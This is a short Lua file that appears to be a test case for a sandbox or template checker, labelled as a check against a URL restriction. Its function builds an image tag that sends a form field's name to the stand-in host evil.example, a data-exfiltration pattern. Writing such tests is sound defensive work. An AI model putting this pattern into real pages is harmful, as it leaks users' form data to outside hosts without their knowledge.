-- SPDX-License-Identifier: GPL-3.0-or-later
-- Sends data away by an image.
-- wall: URLS
-- evil: page has src="https://evil
return function(vm, h)
  return h.img{src = "https://evil.example/" .. vm.form.fields[1].name .. ".png", alt = ""}
end
